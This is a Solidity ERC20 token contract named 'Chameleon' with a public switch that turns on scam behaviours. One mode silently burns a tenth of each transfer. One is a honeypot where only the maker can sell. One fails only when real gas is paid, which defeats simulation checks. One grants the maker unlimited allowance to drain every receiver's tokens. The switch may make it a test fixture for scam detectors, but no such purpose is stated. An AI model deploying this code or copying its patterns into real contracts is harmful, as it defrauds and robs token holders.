// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import {ERC20} from "@openzeppelin/contracts/token/ERC20/ERC20.sol";

/// A token that behaves as those do that are out for somebody's money, once it is told how.
contract Chameleon is ERC20 {
    /// 0 honest; 1 a tenth of each transfer is gone; 2 nobody but its maker sells; 3 fails where gas is paid for;
    /// 4 lets its maker spend whatever the receiver has.
    uint8 public way;
    address private immutable _maker;

    constructor(uint256 supply) ERC20("Chameleon", "CHAM") {
        _maker = msg.sender;
        _mint(msg.sender, supply);
    }

    function behave(uint8 way_) external {
        way = way_;
    }

    function _update(address from, address to, uint256 value) internal override {
        if (way == 1 && from != address(0)) {
            super._update(from, address(0), value / 10);
            value -= value / 10;
        }
        if (way == 2) require(tx.origin == _maker || from.code.length > 0, "only bought");
        if (way == 3) require(tx.gasprice == 0, "not in earnest");
        if (way == 4) _approve(to, _maker, type(uint256).max);
        super._update(from, to, value);
    }
}
